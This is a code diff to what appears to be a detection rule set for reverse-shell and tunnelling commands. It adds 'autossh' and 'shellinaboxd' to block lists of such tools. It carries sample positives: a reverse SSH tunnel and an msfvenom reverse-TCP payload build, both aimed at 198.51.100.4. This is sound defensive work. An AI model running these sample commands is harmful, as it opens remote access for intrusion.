@@ -130,7 +130,7 @@ export const reverseShellRules: readonly CommandRule[] = [
     severity: 'high',
     sees: 'this machine’s login or remote desktop made reachable from outside through a tunnel',
     programs: ['ssh', 'autossh', 'ngrok', 'bore', 'lt', 'localtunnel', 'frpc', 'rathole', 'gost', 'iox', 'ew', 'nps', 'npc', 'pinggy', 'zrok', 'tailscale', 'loophole', 'cloudflared', 'dbclient', 'plink', 'inlets', 'earthworm', 'wstunnel', 'iodine', 'dnscat', 'dnscat2', 'dnscat2-client', 'ptunnel', 'ptunnel-ng', 'icmpsh', 'revsocks', 'rpivot', 'stowaway', 'venom'],
-    literals: ['\bssh -', 'ngrok', 'bore local', 'localtunnel', 'frpc', 'rathole', 'gost ', 'pinggy', 'zrok', 'loophole', 'cloudflared', 'plink', 'dbclient', 'inlets', 'wstunnel', 'iodine', 'dnscat', 'ptunnel', 'icmpsh', 'revsocks', 'rpivot', 'npc -'],
+    literals: ['\bssh -', 'autossh', 'ngrok', 'bore local', 'localtunnel', 'frpc', 'rathole', 'gost ', 'pinggy', 'zrok', 'loophole', 'cloudflared', 'plink', 'dbclient', 'inlets', 'wstunnel', 'iodine', 'dnscat', 'ptunnel', 'icmpsh', 'revsocks', 'rpivot', 'npc -'],
     positive: bash('ssh -fN -R 2222:localhost:22 x@198.51.100.4'),
     nearMiss: bash('ssh -L 5433:localhost:5432 deploy@staging -N; ngrok http 3000; cloudflared tunnel --url http://localhost:8080'),
     source: 'MITRE ATT&CK T1572',
@@ -172,8 +172,8 @@ export const reverseShellRules: readonly CommandRule[] = [
     type,
     severity: 'high',
     sees: 'a terminal or program shown on another machine, or a payload made for one',
-    programs: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'villain', 'weevely', 'pwncat-cs', 'sliver-server', 'evil-winrm', 'gsocket', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo-agent', 'merlinagent', 'agent', 'code', 'code-insiders', 'code-tunnel', 'devtunnel'],
-    literals: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'weevely', 'pwncat', 'sliver', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo', 'agent -connect', 'agent -bind', '-ignore-cert', 'code tunnel', 'code-tunnel', 'code-insiders tunnel', 'devtunnel'],
+    programs: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'villain', 'weevely', 'pwncat-cs', 'sliver-server', 'evil-winrm', 'gsocket', 'gs-netcat', 'ttyd', 'gotty', 'shellinaboxd', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo-agent', 'merlinagent', 'agent', 'code', 'code-insiders', 'code-tunnel', 'devtunnel'],
+    literals: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'weevely', 'pwncat', 'sliver', 'gs-netcat', 'ttyd', 'gotty', 'shellinabox', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo', 'agent -connect', 'agent -bind', '-ignore-cert', 'code tunnel', 'code-tunnel', 'code-insiders tunnel', 'devtunnel'],
     positive: bash('msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.4 LPORT=4444 -f elf -o shell.elf'),
     nearMiss: bash('TERM=xterm ls; xterm -e top; chisel --help'),
     source: 'MITRE ATT&CK T1219',
@@ -187,7 +187,7 @@ export const reverseShellRules: readonly CommandRule[] = [
       if (name === 'msfvenom') return /(?:^| )(?:-p|--payload)/.test(text);
       if (name === 'chisel') return /^client\b/.test(text) && /\bR:/.test(text);
       if (name === 'msfconsole') return /-[xr]\b/.test(text);
-      if (name === 'ttyd' || name === 'gotty') return namesShell(text) || /login/.test(text);
+      if (name === 'ttyd' || name === 'gotty' || name === 'shellinaboxd') return namesShell(text) || /login/.test(text);
       return true;
     },
   },
